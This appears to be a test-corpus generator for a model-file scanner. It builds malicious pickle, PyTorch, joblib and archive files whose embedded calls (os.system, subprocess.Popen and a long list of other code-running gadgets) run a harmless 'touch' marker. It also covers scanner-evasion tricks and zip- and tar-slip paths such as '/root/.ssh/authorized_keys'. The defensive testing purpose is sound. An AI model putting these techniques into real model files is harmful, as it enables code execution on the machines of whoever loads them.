"""Writes a corpus of malicious model files into a folder: ``make_corpus.py FOLDER``. Nothing in it is ever loaded.

Its files are made opcode by opcode, by classes of attack that are public: advisories on scanners, on loaders and on
frameworks. A payload would at most make an empty file. Each class is a function; a file's name begins with its class.
"""

# ruff: noqa: PLR0915
from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

if not __package__:  # run as a script
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
from tests.scan.corpus import (
    OBJECTS,
    array,
    call,
    evil,
    npy,
    onnx,
    pickled,
    stack_global,
    text,
    torch_archive,
    wrapper,
    zipped,
)

COMMAND = "touch marker-of-a-payload"
Files = Iterator[tuple[str, bytes]]
_CLASSES: list[Callable[[], Files]] = []


def attack(function: Callable[[], Files]) -> Callable[[], Files]:
    """A class of attacks: its name is the function's."""
    _CLASSES.append(function)
    return function


def corpus() -> Iterator[tuple[str, str, bytes]]:
    """Class, file name and content, always the same."""
    for make in _CLASSES:
        for number, (name, data) in enumerate(make()):
            yield make.__name__, f"{make.__name__}-{number:03}/{name}", data


def payload(module: str = "os", name: str = "system", *arguments: str, protocol: int = 4) -> bytes:
    return evil(module, name, *(arguments or (COMMAND,)), protocol=protocol)


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _tar(members: dict[str, bytes], form: int = tarfile.PAX_FORMAT) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=form) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _legacy(first: bytes, last: bytes) -> bytes:
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    return magic + b"\x80\x02M\xe9\x03." + first + last + b"\x80\x02]q\0."


#: Names that run a command, code or a file, or write one, of Python and of packages; with what they would be given.
_GADGETS = [
    "os.system",
    "os.popen",
    "os.execvp",
    "os.spawnlp",
    "os.posix_spawn",
    "os.startfile",
    "os.remove",
    "os.rename",
    "os.putenv",
    "os.symlink",
    "posix.system",
    "posix.posix_spawn",
    "posix.execv",
    "nt.system",
    "posixpath.expandvars",
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "_posixsubprocess.fork_exec",
    "pty.spawn",
    "builtins.eval",
    "builtins.exec",
    "builtins.__import__",
    "builtins.open",
    "builtins.compile",
    "builtins.breakpoint",
    "__builtin__.eval",
    "__builtin__.execfile",
    "__builtin__.apply",
    "__builtin__.reload",
    "commands.getoutput",
    "popen2.popen3",
    "runpy.run_path",
    "runpy.run_module",
    "runpy._run_module_code",
    "imp.load_source",
    "imp.load_dynamic",
    "importlib.reload",
    "importlib.import_module",
    "importlib._bootstrap._load",
    "importlib.machinery.SourceFileLoader",
    "importlib.machinery.ExtensionFileLoader",
    "zipimport.zipimporter",
    "pkgutil.resolve_name",
    "pkgutil.get_loader",
    "code.interact",
    "code.InteractiveInterpreter",
    "codeop.compile_command",
    "bdb.Bdb.run",
    "pdb.run",
    "pdb.runeval",
    "pdb.Pdb",
    "profile.run",
    "cProfile.run",
    "cProfile.runctx",
    "profile.Profile.runctx",
    "trace.Trace.run",
    "timeit.timeit",
    "timeit.main",
    "timeit.repeat",
    "doctest.debug_script",
    "doctest.testfile",
    "unittest.main",
    "unittest.mock._importer",
    "asyncio.run",
    "asyncio.subprocess.create_subprocess_exec",
    "asyncio.unix_events._UnixSubprocessTransport._start",
    "multiprocessing.util.spawnv_passfds",
    "multiprocessing.Process",
    "multiprocessing.pool.Pool",
    "concurrent.futures.ProcessPoolExecutor",
    "threading.Thread",
    "threading.Timer",
    "_thread.start_new_thread",
    "sched.scheduler",
    "signal.signal",
    "atexit.register",
    "atexit._run_exitfuncs",
    "weakref.finalize",
    "ctypes.CDLL",
    "ctypes.util._findLib_gcc",
    "ctypes.cdll.LoadLibrary",
    "ctypes.PyDLL",
    "ctypes.pythonapi",
    "_ctypes.dlopen",
    "cffi.FFI",
    "webbrowser.open",
    "webbrowser.GenericBrowser",
    "antigravity.geohash",
    "pydoc.pipepager",
    "pydoc.tempfilepager",
    "pydoc.locate",
    "pydoc.render_doc",
    "idlelib.run.Executive.runcode",
    "idlelib.autocomplete.AutoComplete.fetch_completions",
    "idlelib.calltip.get_entity",
    "idlelib.debugobj.ObjectTreeItem",
    "lib2to3.pgen2.grammar.Grammar.loads",
    "lib2to3.pgen2.pgen.ParserGenerator.make_label",
    "lib2to3.refactor.get_fixers_from_package",
    "ensurepip._run_pip",
    "ensurepip._bootstrap",
    "venv.create",
    "venv.EnvBuilder",
    "distutils.spawn.spawn",
    "distutils.file_util.write_file",
    "distutils.core.run_setup",
    "setuptools.build_meta.build_wheel",
    "pip._internal.cli.main.main",
    "pip.main",
    "compileall.compile_file",
    "py_compile.compile",
    "test.support.script_helper.assert_python_ok",
    "test.support.os_helper.unlink",
    "smtplib.SMTP",
    "ftplib.FTP",
    "poplib.POP3",
    "imaplib.IMAP4_stream",
    "telnetlib.Telnet",
    "nntplib.NNTP",
    "xmlrpc.client.ServerProxy",
    "http.client.HTTPConnection",
    "http.server.test",
    "urllib.request.urlretrieve",
    "socket.create_server",
    "socketserver.TCPServer",
    "ssl.get_server_certificate",
    "shutil.copyfile",
    "shutil.move",
    "shutil.unpack_archive",
    "shutil._unpack_zipfile",
    "tarfile.open",
    "zipfile.ZipFile.extractall",
    "sqlite3.connect",
    "dbm.open",
    "shelve.open",
    "mailcap.findmatch",
    "cgitb.enable",
    "logging.config.fileConfig",
    "logging.config._resolve",
    "logging.FileHandler",
    "logging.handlers.SocketHandler",
    "fileinput.input",
    "tempfile.mkstemp",
    "linecache.updatecache",
    "tokenize.open",
    "io.open",
    "_io.open_code",
    "_pyio.open",
    "codecs.open",
    "bz2.open",
    "gzip.open",
    "lzma.open",
    "pickle.loads",
    "pickle._loads",
    "_pickle.load",
    "cPickle.loads",
    "marshal.load",
    "marshal.loads",
    "shelve.DbfilenameShelf",
    "copyreg.add_extension",
    "copyreg.pickle",
    "types.FunctionType",
    "types.CodeType",
    "types.MethodType",
    "operator.methodcaller",
    "operator.attrgetter",
    "operator.call",
    "functools.reduce",
    "functools.partialmethod",
    "functools.cached_property",
    "itertools.starmap",
    "_operator.methodcaller",
    "sys._getframe",
    "sys.setprofile",
    "gc.get_referrers",
    "inspect.getattr_static",
    "inspect.getmembers",
    "ast.literal_eval",
    "string.Formatter.vformat",
    "string.Template.substitute",
    "typing._eval_type",
    "typing.ForwardRef._evaluate",
    "dataclasses._create_fn",
    "enum._make_class_unpicklable",
    "collections.namedtuple",
    "turtle.config_dict",
    "tkinter.filedialog.test",
    "curses.wrapper",
    "readline.read_init_file",
    "site.addpackage",
    "site.execsitecustomize",
    "sysconfig._init_posix",
    "platform.popen",
    "platform._syscmd_ver",
    "platform._syscmd_file",
    "uuid._get_command_stdout",
    "getpass.unix_getpass",
    "mimetypes.init",
    "netrc.netrc",
    "wsgiref.simple_server.demo_app",
    "xml.sax.parse",
    "plistlib.load",
    "sre_compile.compile",
    "_aix_support._read_cmd_output",
    "_osx_support._find_build_tool",
    "_pyrepl.pager.pipe_pager",
    "_pyrepl.simple_interact.run_multiline_interactive_console",
    "_bootsubprocess._waitstatus_to_exitcode",
    "_xxsubinterpreters.run_string",
    "_interpreters.exec",
    "_testcapi.run_in_subinterp",
    "concurrent.interpreters.create",
    "nturl2path.url2pathname",
    "msilib.init_database",
    "crypt.mksalt",
    "spwd.getspall",
    "numpy.testing._private.utils.runstring",
    "numpy.f2py.compile",
    "numpy.f2py.crackfortran.myeval",
    "numpy.f2py.diagnose.run_command",
    "numpy.distutils.misc_util.exec_mod_from_location",
    "numpy.distutils.cpuinfo.getoutput",
    "numpy.ctypeslib.load_library",
    "numpy.core.multiarray.fromfile",
    "numpy.lib.npyio.load",
    "numpy.save",
    "numpy.fromregex",
    "numpy.vectorize.__call__",
    "numpy.apply_over_axes",
    "scipy.io.loadmat",
    "scipy._lib._ccallback.LowLevelCallable",
    "scipy.misc.common.pipe",
    "scipy.weave.inline",
    "scipy.LowLevelCallable",
    "sklearn.utils._joblib.Parallel",
    "sklearn.externals.joblib.load",
    "sklearn.datasets.load_files",
    "sklearn.utils.parallel.delayed",
    "sklearn.base.inspect.os.system",
    "sklearn.base.os.system",
    "sklearn.base.warnings.sys.exit",
    "sklearn.utils.fixes.sys.settrace",
    "sklearn.utils._set_output.importlib.import_module",
    "joblib.memory.MemorizedFunc.call",
    "joblib.parallel.BatchedCalls",
    "joblib.externals.loky.backend.spawn.prepare",
    "joblib.externals.loky.process_executor._process_worker",
    "joblib.numpy_pickle_utils._read_fileobject",
    "joblib._store_backends.FileSystemStoreBackend.clear_location",
    "joblib.func_inspect.get_func_code",
    "pandas.io.pickle.read_pickle",
    "pandas.core.computation.pytables.PyTablesExpr",
    "pandas.DataFrame.eval",
    "pandas.core.frame.DataFrame.query",
    "pandas.io.common.get_handle",
    "pandas.util._tester.test",
    "pandas.core.generic.pickle.loads",
    "pandas.core.apply.os.system",
    "pandas.io.clipboard.init_osx_pbcopy_clipboard",
    "torch.utils.bottleneck.__main__.run_cprofile",
    "torch.utils.collect_env.run",
    "torch.utils.data.datapipes.utils.decoder.basichandlers",
    "torch._dynamo.guards.GuardBuilder.get",
    "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",
    "torch.fx.graph_module._exec_with_source",
    "torch.jit.load",
    "torch.jit._script.script",
    "torch.distributed.run.main",
    "torch.distributed.rpc.api._invoke_rpc",
    "torch.multiprocessing.spawn",
    "torch.package.package_importer.PackageImporter",
    "torch.hub.load_state_dict_from_url",
    "torch.hub.download_url_to_file",
    "torch.cuda._memory_viz.format_flamegraph",
    "torch._inductor.cpp_builder.run_compile_cmd",
    "torch._utils_internal.compile_time_strobelight_meta",
    "torch.ops.load_library",
    "torch.classes.load_library",
    "torch.onnx.utils.export",
    "torch.utils.model_zoo.load_url",
    "torch.testing._internal.common_utils.run_tests",
    "torch.from_file",
    "torch.save",
    "torch.serialization._legacy_load",
    "torch.utils.cpp_extension.load_inline",
    "torch.nn.modules.module.os.system",
    "torch.nn.functional.boolean_dispatch",
    "torch.optim.optimizer.functools.partial",
    "torch._tensor.os.system",
    "torch.storage.io.open",
    "torch.overrides.get_testing_overrides",
    "tensorflow.io.gfile.GFile",
    "tensorflow.python.platform.gfile.FastGFile",
    "tensorflow.compat.v1.py_func",
    "tensorflow.keras.utils.get_file",
    "keras.models.load_model",
    "keras.utils.get_file",
    "keras.src.legacy.saving.legacy_h5_format.load_model_from_hdf5",
    "keras.src.saving.serialization_lib.enable_unsafe_deserialization",
    "xgboost.core.os.system",
    "xgboost.tracker.RabitTracker",
    "lightgbm.basic._load_lib",
    "lightgbm.compat.joblib.load",
    "catboost.core._have_equal_features.os",
    "cloudpickle.loads",
    "cloudpickle.cloudpickle._builtin_type",
    "cloudpickle.cloudpickle_fast._function_setstate",
    "dill.loads",
    "dill._dill._create_function",
    "dill.source.importable",
    "dill._dill._import_module",
    "jsonpickle.unpickler.loadclass",
    "multiprocess.pool.Pool",
    "yaml.load",
    "yaml.unsafe_load_all",
    "ruamel.yaml.main.YAML",
    "mlflow.pyfunc.load_model",
    "mlflow.projects.run",
    "mlflow.utils.process._exec_cmd",
    "mlflow.sklearn._load_model_from_local_file",
    "ray.cloudpickle.loads",
    "ray.util.client.server.proxier.run",
    "dask.base.unpack_collections",
    "dask.utils.apply",
    "distributed.worker.run",
    "distributed.utils.import_file",
    "transformers.pipeline",
    "transformers.dynamic_module_utils.get_class_from_dynamic_module",
    "transformers.utils.hub.cached_file",
    "accelerate.utils.launch.prepare_simple_launcher_cmd_env",
    "accelerate.commands.launch.simple_launcher",
    "diffusers.utils.dynamic_modules_utils.get_cached_module_file",
    "datasets.load.load_dataset_builder",
    "huggingface_hub.hf_hub_download",
    "lightning.pytorch.core.saving._load_state",
    "pytorch_lightning.utilities.cloud_io.load",
    "fastai.learner.load_learner",
    "fastcore.xtras.run",
    "fastcore.basics.exec_eval",
    "spacy.util.run_command",
    "spacy.cli.download.run_command",
    "weasel.util.commands.run_command",
    "nltk.data.load",
    "nltk.app.wordnet_app.startBrowser",
    "gensim.utils.check_output",
    "gensim.utils.unpickle",
    "gensim.models.wrappers.LdaMallet.train",
    "sympy.lambdify",
    "sympy.parsing.sympy_parser.eval_expr",
    "sympy.utilities.autowrap.CodeWrapper._process_files",
    "sympy.external.importtools.import_module",
    "networkx.readwrite.gpickle.read_gpickle",
    "networkx.drawing.nx_agraph.view_pygraphviz",
    "statsmodels.iolib.smpickle.load_pickle",
    "statsmodels.tools.eval_measures.os.system",
    "statsmodels.formula.api.handle_formula_data",
    "patsy.eval.EvalEnvironment.eval",
    "patsy.EvalEnvironment",
    "formulaic.utils.stateful_transforms.stateful_eval",
    "prophet.models.StanBackendCmdStan.load_model",
    "cmdstanpy.utils.do_command",
    "cmdstanpy.compilation.os.system",
    "pystan.StanModel",
    "hmmlearn.utils.os.system",
    "sktime.base._serialize.load",
    "sktime.utils.dependencies._dependencies.exec",
    "river.utils.io.os.system",
    "river.compose.FuncTransformer",
    "imblearn.utils.testing.all_estimators",
    "category_encoders.utils.sys.modules",
    "numba.core.serialize._unpickle__CustomPickled",
    "numba.pycc.compiler.os.system",
    "llvmlite.binding.load_library_permanently",
    "IPython.core.magics.execution.run",
    "IPython.utils.process.system",
    "ipykernel.kernelapp.launch_new_instance",
    "jupyter_client.manager.start_new_kernel",
    "notebook.auth.security.set_password",
    "paddle.utils.cpp_extension.load",
    "paddle.framework.io.load",
    "mxnet.gluon.SymbolBlock.imports",
    "theano.gof.cmodule.dlimport",
    "onnxruntime.InferenceSession",
    "onnx.hub.load",
    "skops.io.load",
    "optuna.storages.RDBStorage",
    "hyperopt.pyll.base.scope.call",
    "fabric.api.local",
    "invoke.run",
    "sh.bash",
    "plumbum.local.cmd",
    "pexpect.spawn",
    "paramiko.ProxyCommand",
    "docker.from_env",
    "psutil.Popen",
    "requests.get",
    "httpx.get",
    "urllib3.PoolManager",
    "boto3.client",
    "fsspec.core.open",
    "s3fs.S3FileSystem",
    "smart_open.open",
    "gdown.download",
    "wget.download",
    "git.Repo.clone_from",
    "setuptools.sandbox.run_setup",
    "setuptools._distutils.spawn.spawn",
    "pkg_resources.run_script",
    "_pytest.config.main",
    "pytest.main",
    "nose.run",
    "jinja2.Template.render",
    "mako.template.Template",
    "django.core.management.execute_from_command_line",
    "celery.bin.celery.main",
    "gunicorn.util.import_app",
    "werkzeug.utils.import_string",
    "flask.cli.run_command",
    "twisted.python.reflect.namedAny",
    "zope.dottedname.resolve.resolve",
    "toolz.functoolz.compose",
    "cytoolz.curry",
    "more_itertools.consume",
    "attr._make._eval",
    "wrapt.importer.resolve_path",
    "decorator.FunctionMaker",
    "cachetools.cached",
    "tqdm.contrib.concurrent.process_map",
    "simpleeval.simple_eval",
    "asteval.Interpreter",
    "numexpr.evaluate",
    "js2py.eval_js",
    "execjs.eval",
    "pyximport.load_module",
    "Cython.Build.Inline.cython_inline",
    "cppyy.cppdef",
    "zmq.utils.strtypes.eval",
    "triton.runtime.build._build",
    "deepspeed.launcher.runner.main",
    "bentoml.picklable_model.load_model",
    "ultralytics.utils.checks.check_requirements",
]


def gadgets() -> list[tuple[str, str]]:
    found = []
    for path in dict.fromkeys(_GADGETS):
        parts = path.split(".")
        at = next((number for number, part in enumerate(parts[1:], 1) if part[:1].isupper()), len(parts) - 1)
        found.append((".".join(parts[:at]), ".".join(parts[at:])))
    return found


def _carriers() -> list[tuple[str, Callable[[bytes], bytes]]]:
    """What a pickle (protocol 4) may lie in; and the name of such a file."""
    inside = b"\x80\4"
    return [
        ("m.pkl", lambda data: data),
        ("m.pt", torch_archive),
        ("m.npy", npy),
        ("m.joblib", lambda data: pickled(array() + b"0" + data[2:-1])),
        ("m.joblib.gz", _gzip),
        ("m.bin", lambda data: torch_archive(data, "pytorch_model")),
        ("m.npz", lambda data: zipped({"x.npy": npy(data)}, zipfile.ZIP_DEFLATED)),
        ("m.tar.gz", lambda data: _gzip(_tar({"model/model.pkl": data}))),
        ("m.zip", lambda data: zipped({"deep/er/m": data}, zipfile.ZIP_BZIP2)),
        ("m.ckpt", lambda data: _legacy(data, b"\x80\2]q\0.")),
        ("m.xz", lzma.compress),
        ("m.bz2", bz2.compress),
        ("m.z", zlib.compress),
        ("m.safetensors", lambda data: data),
        ("m.json", lambda data: data),
        ("m.nemo", lambda data: _tar({"model_weights.ckpt": torch_archive(data)})),
        ("m", lambda data: inside + b"(]" + data[2:-1] + b"K\1t."),
        ("m.sav", lambda data: inside + b"}" + text("model") + data[2:-1] + b"s."),
        ("m.dat", lambda data: inside + b"N." + inside + b"K\1." + data),
        ("m.pickle", lambda data: inside + text("x" * 300) + b"\x940" + data[2:]),
    ]


@attack
def gadgets_in_carriers() -> Files:
    """Each name in one carrier, in turn, and at another protocol where it is bare."""
    carriers = _carriers()
    for number, (module, name) in enumerate(gadgets()):
        carrier, pack = carriers[number % len(carriers)]
        yield f"{module}.{name}-{carrier}"[:110], pack(payload(module, name))


@attack
def carriers_of_system() -> Files:
    """Each carrier in each other: two deep."""
    carriers = [
        each
        for each in _carriers()
        if each[0] not in ("m.npy", "m.joblib", "m.ckpt", "m", "m.sav", "m.dat", "m.pickle")
    ]
    for name, pack in carriers[::2]:
        for outer in ("m.zip", "m.tar.gz", "m.xz"):
            around = dict(carriers)[outer]
            yield f"{name}-in-{outer}", around(pack(payload("posix", "system")))


@attack
def protocols() -> Files:
    for protocol in range(6):
        for module, name in (("os", "popen"), ("builtins", "exec"), ("pydoc", "pipepager")):
            yield f"p{protocol}-{module}.{name}.pkl", payload(module, name, protocol=protocol)


def _line(value: str) -> bytes:
    return f"V{value}\n".encode()


@attack
def ways_to_call() -> Files:
    command, system = text(COMMAND), stack_global("posix", "system")
    yield "inst.pkl", b"(" + _line(COMMAND) + b"iposix\nsystem\n."
    yield "obj.pkl", b"(cposix\nsystem\n" + _line(COMMAND) + b"o."
    yield "newobj.pkl", pickled(stack_global("subprocess", "Popen") + command + b"\x85\x81")
    yield "newobj-ex.pkl", pickled(stack_global("subprocess", "Popen") + b")}" + text("args") + command + b"s\x92")
    yield (
        "memo-binput.pkl",
        pickled(text("posix") + b"q\0" + text("system") + b"q\1" + b"00h\0h\1\x93(" + command + b"tR"),
    )
    yield (
        "memo-long.pkl",
        pickled(
            text("system")
            + b"r\xff\0\0\0"
            + text("posix")
            + b"r\xfe\0\0\0"
            + b"00j\xfe\0\0\0j\xff\0\0\0\x93"
            + command
            + b"\x85R"
        ),
    )
    yield "memo-text.pkl", _line("posix") + b"p7\n" + b"0cposix\nsystem\np8\n0g8\n(" + _line(COMMAND) + b"tR."
    yield "dup.pkl", pickled(text("posix") + b"2" + b"0" + text("system") + b"\x93" + command + b"\x85R")
    yield "memoize-later.pkl", pickled(b"]\x94" + system + b"\x94a0h\0" + b"0h\1" + command + b"\x85R")
    yield "pop-mark.pkl", pickled(b"(K\1K\2" + b"1" + system + command + b"\x85R")
    yield "tuple-nested.pkl", pickled(system + command + b"\x85R" + b"\x85" * 50)
    yield "list-nested.pkl", pickled(b"]" * 60 + system + command + b"\x85R" + b"a" * 60)
    yield "as-key.pkl", pickled(b"}" + call(system, command) + b"K\1s")
    yield "in-a-set.pkl", pickled(b"\x8f(" + call(system, command) + b"\x90")
    yield "in-a-frozenset.pkl", pickled(b"(" + call(system, command) + b"\x91")
    yield "as-argument.pkl", pickled(call(stack_global("builtins", "list"), b"](" + call(system, command) + b"e"))
    yield (
        "as-state.pkl",
        pickled(call(stack_global("argparse", "Namespace")) + b"}" + text("a") + call(system, command) + b"sb"),
    )
    yield "as-persistent-id.pkl", pickled(call(system, command) + b"Q")
    yield "ext1.pkl", b"\x80\2\x82\1(" + _line(COMMAND) + b"tR."
    yield "ext2.pkl", b"\x80\2\x83\1\2(" + _line(COMMAND) + b"tR."
    yield "ext4.pkl", b"\x80\2\x84\1\2\3\0(" + _line(COMMAND) + b"tR."
    yield "persid.pkl", b"Pmodel.function\n(" + _line(COMMAND) + b"tR."
    yield "buffer.pkl", b"\x80\5\x97\x98" + b"0" + payload()[2:]
    yield "two-stops.pkl", pickled(b"N") + payload()
    yield "frame.pkl", b"\x80\4\x95" + struct.pack("<Q", len(payload()) - 2) + payload()[2:]
    yield "frames-lie.pkl", b"\x80\4\x95" + struct.pack("<Q", 5) + payload()[2:]
    yield "no-stop.pkl", payload()[:-1]
    yield "garbage-behind.pkl", payload()[:-1] + b"\xfe"
    yield "reduce-ex.pkl", pickled(call(stack_global("copyreg", "__reduce_ex__"), system, b"K\2"))
    yield (
        "getattr.pkl",
        pickled(
            call(
                call(
                    stack_global("builtins", "getattr"),
                    call(stack_global("builtins", "__import__"), text("os")),
                    text("system"),
                ),
                command,
            )
        ),
    )
    yield (
        "getattr-of-known.pkl",
        pickled(
            call(call(stack_global("builtins", "getattr"), stack_global("torch", "Tensor"), text("__init_subclass__")))
        ),
    )
    yield (
        "getattr-globals.pkl",
        pickled(call(stack_global("builtins", "getattr"), stack_global("sklearn.base", "clone"), text("__globals__"))),
    )
    yield "subclasses.pkl", pickled(call(stack_global("builtins", "object.__subclasses__")))
    yield "mro.pkl", pickled(stack_global("builtins", "str.__class__.__base__"))
    yield "partial.pkl", pickled(call(call(stack_global("functools", "partial"), system, command)))
    yield (
        "partial-state.pkl",
        pickled(
            call(stack_global("functools", "partial"), stack_global("builtins", "print"))
            + b"("
            + system
            + command
            + b"\x85}NtbN0"
        ),
    )
    yield "partial-kept.pkl", pickled(call(stack_global("functools", "partial"), system, command))
    yield "defaultdict.pkl", pickled(call(stack_global("collections", "defaultdict"), system))
    yield (
        "map.pkl",
        pickled(
            call(
                stack_global("builtins", "list"), call(stack_global("builtins", "map"), system, b"](" + command + b"e")
            )
        ),
    )
    yield (
        "reconstructor.pkl",
        pickled(
            call(
                stack_global("copyreg", "_reconstructor"),
                stack_global("subprocess", "Popen"),
                stack_global("builtins", "object"),
                b"N",
            )
        ),
    )
    yield (
        "newobj-by-copyreg.pkl",
        pickled(call(stack_global("copyreg", "__newobj__"), stack_global("subprocess", "Popen"), command)),
    )
    yield (
        "newobj-ex-by-copyreg.pkl",
        pickled(
            call(stack_global("copyreg", "__newobj_ex__"), stack_global("subprocess", "Popen"), command + b"\x85", b"}")
        ),
    )
    yield (
        "ufunc-reconstruct.pkl",
        pickled(call(call(stack_global("numpy.core", "_ufunc_reconstruct"), text("posix"), text("system")), command)),
    )
    yield (
        "setstate-of-tensor.pkl",
        pickled(
            call(
                stack_global("torch._tensor", "_rebuild_from_type_v2"),
                system,
                stack_global("torch", "Tensor"),
                command + b"\x85",
                b"}",
            )
        ),
    )
    yield (
        "rebuild-parameter-with-state.pkl",
        pickled(call(stack_global("torch._utils", "_rebuild_parameter_with_state"), system, b"N", b"N", b"N")),
    )
    yield (
        "type.pkl",
        pickled(call(stack_global("builtins", "type"), text("X"), b")", b"}" + text("__del__") + system + b"s")),
    )
    yield "call-of-a-method.pkl", pickled(call(stack_global("builtins", "str.format"), text("{0.__class__}"), b"N"))
    yield "sorted-key.pkl", pickled(call(stack_global("functools", "cmp_to_key"), system))
    yield "iter-of-call.pkl", pickled(call(stack_global("builtins", "iter"), system, b"K\0"))
    yield (
        "slots-state.pkl",
        pickled(
            call(stack_global("argparse", "Namespace"))
            + b"N}"
            + text("__class__")
            + stack_global("subprocess", "Popen")
            + b"s\x86b"
        ),
    )
    yield (
        "setstate.pkl",
        pickled(
            call(stack_global("argparse", "Namespace")) + b"}" + text("__setstate__") + system + b"sb" + command + b"b"
        ),
    )
    yield (
        "reduce-in-state.pkl",
        pickled(call(stack_global("types", "SimpleNamespace")) + b"}" + text("__reduce__") + system + b"sb"),
    )
    yield (
        "new-in-state.pkl",
        pickled(
            call(stack_global("argparse", "Namespace")) + b"}" + text("__new__") + stack_global("os", "popen") + b"sb"
        ),
    )
    yield (
        "append-in-state.pkl",
        pickled(call(stack_global("argparse", "Namespace")) + b"}" + text("append") + system + b"sb" + command + b"a"),
    )
    yield "module-state.pkl", pickled(stack_global("sklearn", "base") + b"}" + text("clone") + system + b"sb")
    yield (
        "forward-hook.pkl",
        pickled(
            stack_global("torch.nn.modules.linear", "Linear")
            + b")\x81}"
            + text("_forward_hooks")
            + b"}K\0"
            + system
            + b"ss"
            + b"b"
        ),
    )
    yield "object-array-in-list.joblib", pickled(b"]" + wrapper(OBJECTS, b"K\1\x85", b"N") + payload() + b"a")
    yield (
        "object-matrix.joblib",
        pickled(wrapper(OBJECTS, b"K\1K\1\x86", b"N") + pickled(b"](" + call(system, command) + b"e")),
    )
    yield "array-then-tail.joblib", pickled(array()) + payload()


@attack
def nested_loaders() -> Files:
    """Bytes that a loader which honest pickles call would load in turn."""
    for name, data in {
        "pickle": payload(), "torch-zip": torch_archive(payload()), "torch-legacy": _legacy(b"\x80\2]q\0.", payload()),
        "gzip": _gzip(payload()), "tar": _tar({"pickle": payload(), "storages": b"\x80\2K\0.", "tensors": b"\x80\2K\0."}),
        "deflated-zip": zipped({"a/data.pkl": payload(), "a/version": b"3"}, zipfile.ZIP_DEFLATED),
    }.items():  # fmt: skip
        inner = b"B" + struct.pack("<I", len(data)) + data
        yield f"load-from-bytes-{name}.pkl", pickled(call(stack_global("torch.storage", "_load_from_bytes"), inner))
        yield (
            f"as-bytes8-{name}.pkl",
            pickled(
                call(stack_global("torch.storage", "_load_from_bytes"), b"\x8e" + struct.pack("<Q", len(data)) + data)
            ),
        )
    inner = b"B" + struct.pack("<I", len(payload())) + payload()
    for module, name in (
        ("pickle", "loads"),
        ("dill", "loads"),
        ("cloudpickle", "loads"),
        ("joblib", "load"),
        ("_pickle", "Unpickler"),
    ):
        yield f"{module}.{name}.pkl", pickled(call(stack_global(module, name), inner))
    yield (
        "encoded.pkl",
        pickled(
            call(
                stack_global("torch.storage", "_load_from_bytes"),
                call(stack_global("_codecs", "encode"), text(payload(protocol=0).decode()), text("latin1")),
            )
        ),
    )
    yield (
        "bytearray.pkl",
        pickled(
            call(stack_global("torch.storage", "_load_from_bytes"), call(stack_global("builtins", "bytearray"), inner))
        ),
    )


@attack
def archives() -> Files:
    evil = payload()
    whole = torch_archive(evil)
    crc = zlib.crc32(evil).to_bytes(4, "little")
    yield "crc-local.pt", whole.replace(crc, b"\0\0\0\0", 1)
    yield "crc-both.pt", whole.replace(crc, b"\xff\xff\xff\xff")
    yield "behind-a-text.pt", b"#!/bin/sh\n" + whole
    yield "behind-safetensors.safetensors", struct.pack("<Q", 2) + b"{}" + whole
    yield "behind-a-picture.png", b"\x89PNG\r\n\x1a\n" + bytes(64) + whole
    yield "behind-gguf.gguf", b"GGUF\3\0\0\0" + bytes(16) + whole
    yield "with-a-comment.zip", whole[:-2] + b"\x05\0hello"
    yield "without-directory.zip", whole[: whole.find(b"PK\1\2")]
    flagged = bytearray(whole)
    flagged[6] |= 1
    yield "flag-local.pt", bytes(flagged)
    directory = whole.find(b"PK\1\2")
    flagged = bytearray(whole)
    flagged[directory + 8] |= 1
    yield "flag-central.pt", bytes(flagged)
    other = bytearray(whole)
    other[directory + 10] = 8
    yield "method-central.pt", bytes(other)
    other = bytearray(whole)
    other[directory + 24 : directory + 28] = struct.pack("<I", 3)
    yield "size-central.pt", bytes(other)
    renamed = whole.replace(b"archive/data.pkl", b"archive/data.txt", 1)
    yield "name-local.pt", renamed
    yield "name-both.pt", whole.replace(b"archive/data.pkl", b"archive/data.txt")
    yield "tensor-is-pickle.pt", zipped({"a/data.pkl": pickled(b"N"), "a/data/0": evil, "a/version": b"3"})
    yield "two-roots.pt", zipped({"a/data.pkl": pickled(b"N"), "b/data.pkl": evil, "a/version": b"3"})
    yield "backslashes.pt", zipped({"a\\data.pkl": evil, "a\\version": b"3"})
    yield "constants.pt", zipped({"a/data.pkl": pickled(b"N"), "a/constants.pkl": evil, "a/version": b"3"})
    yield "torchscript-code.pt", zipped({"a/data.pkl": pickled(b"N"), "a/extra/x": evil, "a/version": b"3"})
    yield "lzma.zip", zipped({"x": evil}, zipfile.ZIP_LZMA)
    yield "zip-slip.zip", zipped({"../../../.local/lib/site.py": b"import os"})
    yield "zip-drive.zip", zipped({"C:\\x.py": b"import os"})
    for form, name in ((tarfile.USTAR_FORMAT, "ustar"), (tarfile.GNU_FORMAT, "gnu"), (tarfile.PAX_FORMAT, "pax")):
        yield f"{name}.tar", _tar({"m/" + "long/" * 20 + "x": evil}, form=form)
    yield "tar-slip.tar", _tar({"a/../../m": b"text"})
    yield "tar-absolute.tar", _tar({"/root/.ssh/authorized_keys": b"text"})
    yield "tar-second.tar", _tar({"a": b"text"}) + _tar({"b": evil})
    yield "tar-size-base256.tar", _tar({"a": b"x" * 512}) + evil
    yield (
        "tar-of-torch-legacy.tar",
        _tar({"pickle": evil, "storages": b"\x80\2K\0.", "tensors": b"\x80\2K\0.", "sys_info": b"\x80\2}."}),
    )
    yield "gzip-two-members.gz", _gzip(b"\x80\4") + _gzip(evil[2:])
    yield "gzip-extra.gz", b"\x1f\x8b\x08\x04" + bytes(6) + b"\x04\0abcd" + _gzip(evil)[10:]
    yield "gzip-name.gz", b"\x1f\x8b\x08\x08" + bytes(6) + b"x.txt\0" + _gzip(evil)[10:]
    yield "gzip-cut.gz", _gzip(evil + bytes(5000))[:-12]
    yield "xz-two-streams.xz", lzma.compress(b"\x80\4") + bytes(4) + lzma.compress(evil[2:])
    yield "bz2-two-streams.bz2", bz2.compress(b"\x80") + bz2.compress(evil[1:])
